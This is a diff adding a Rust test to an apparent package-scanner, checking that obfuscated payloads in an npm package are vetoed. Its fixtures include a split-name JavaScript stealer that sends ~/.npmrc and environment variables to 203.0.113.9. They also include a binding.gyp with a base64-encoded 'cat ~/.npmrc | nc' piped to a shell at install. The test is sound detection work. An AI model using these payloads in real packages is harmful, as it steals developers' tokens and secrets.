@@ -1674,3 +1674,87 @@ fn payloads_the_text_does_not_show_cannot_be_cleared() {
         "{r:#}"
     );
 }
+
+/// string-padder's stealer with every name it uses spelled in pieces
+/// (`require('o' + 's')`, `o['home' + 'dir']()`, `process['en' + 'v']`),
+/// and a binding.gyp whose command expansion pipes a decoded string into a
+/// shell (npm runs `node-gyp rebuild` for such a package, no script
+/// named). With lexicon v2 neither had a line the veto reads, and is-number
+/// carrying either was allowed on the pre-check alone (the main model
+/// scores them below 1e-7). Lexicon v3 folds the pieces back into names
+/// and knows the gyp expansion: both are vetoed at the file that holds
+/// them, while the same package with the pieces spelling nothing is still
+/// allowed.
+#[test]
+fn names_spelled_in_pieces_do_not_hide_a_payload() {
+    let c = Canary::new();
+    let split = "\nconst q = (a) => require(a);\n\
+        const h = q('ht' + 'tps'), f = q('fs'), o = q('o' + 's'), p = q('pa' + 'th');\n\
+        const k = p.join(o['home' + 'dir'](), '.npm' + 'rc');\n\
+        let t = '';\n\
+        try { t = f.readFileSync(k, 'utf8'); } catch (e) {}\n\
+        const b = JSON.stringify({ h: o['host' + 'name'](), t: t, e: process['en' + 'v'] });\n\
+        const r = h.request({ hostname: '203.0.113.9', path: '/collect', method: 'POST' });\n\
+        r.write(b);\nr.end();\n";
+    let p = is_number_with(&c, "split.tgz", "package/lib/util.js", split.as_bytes());
+    let (o, r) = scan_path_json(&c, &p);
+    assert_eq!(
+        (code(&o), r["reason"].as_str()),
+        (2, Some("inconclusive")),
+        "{r:#}"
+    );
+    let veto = &r["policies"][0]["precheck"]["veto"];
+    assert_eq!(veto["cleared"], false, "{veto:#}");
+    assert!(
+        veto["location"]
+            .as_str()
+            .unwrap()
+            .starts_with("lib/util.js:"),
+        "{veto:#}"
+    );
+    // What the veto read: the folded names, not their pieces.
+    let out = c
+        .cmd()
+        .args(["render", "--view", "capabilities"])
+        .arg(&p)
+        .output()
+        .unwrap();
+    let view = String::from_utf8(out.stdout).unwrap();
+    assert!(
+        view.contains("+const k = p.join(o.homedir(), '.npmrc');"),
+        "{view}"
+    );
+    assert!(view.contains("process.env"), "{view}");
+
+    let gyp = br#"{
+  "targets": [
+    {
+      "target_name": "isnum",
+      "sources": ["<!(echo Y2F0IH4vLm5wbXJjIHwgbmMgMjAzLjAuMTEzLjkgNDQz | base64 -d | sh)"]
+    }
+  ]
+}
+"#;
+    let p = is_number_with(&c, "gyp.tgz", "package/binding.gyp", gyp);
+    let (o, r) = scan_path_json(&c, &p);
+    assert_eq!(code(&o), 2, "{r:#}");
+    let veto = &r["policies"][0]["precheck"]["veto"];
+    assert_eq!(veto["cleared"], false, "{veto:#}");
+    assert!(
+        veto["location"]
+            .as_str()
+            .unwrap()
+            .starts_with("binding.gyp:"),
+        "{veto:#}"
+    );
+
+    // Pieces that spell no capability change nothing.
+    let plain = "module.exports.label = 'is' + '-' + 'number';\n";
+    let p = is_number_with(&c, "plain.tgz", "package/lib/label.js", plain.as_bytes());
+    let (o, r) = scan_path_json(&c, &p);
+    assert_eq!(
+        (code(&o), r["reason"].as_str()),
+        (0, Some("precheck-harmless")),
+        "{r:#}"
+    );
+}
